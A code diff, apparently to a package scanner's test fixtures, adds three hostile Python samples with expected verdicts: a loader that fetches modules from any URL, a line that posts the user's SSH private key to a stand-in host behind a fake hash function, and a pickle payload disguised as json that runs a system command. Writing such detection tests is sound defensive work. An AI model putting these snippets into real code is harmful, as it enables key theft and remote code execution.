@@ -406,4 +406,38 @@ export const furtherBehaviours: readonly Shape[] = [
       ),
     },
   },
+  {
+    name: 'a loader of modules from wherever it is told',
+    tier: 'review',
+    files: {
+      'demo/__init__.py': lines(
+        'import importlib.abc, urllib.request',
+        'class Loader(importlib.abc.SourceLoader):',
+        '    def __init__(self, base):',
+        '        self.base = base',
+        '    def get_filename(self, name):',
+        '        return self.base + name',
+        '    def get_data(self, path):',
+        '        return urllib.request.urlopen(path).read()',
+      ),
+    },
+  },
+  {
+    name: 'a key goes through a function of its own that is named like a hash',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines(
+        'import os, requests',
+        'from .hashlib import digest',
+        'requests.post("https://a.invalid", data=digest(open(os.path.expanduser("~/.ssh/id_rsa")).read()))',
+      ),
+    },
+  },
+  {
+    name: 'pickle is imported as json',
+    tier: 'deny',
+    files: {
+      'demo/__init__.py': lines('import pickle as json', `json.loads(b"cos\\nsystem\\n(S'true'\\ntR.")`),
+    },
+  },
 ];
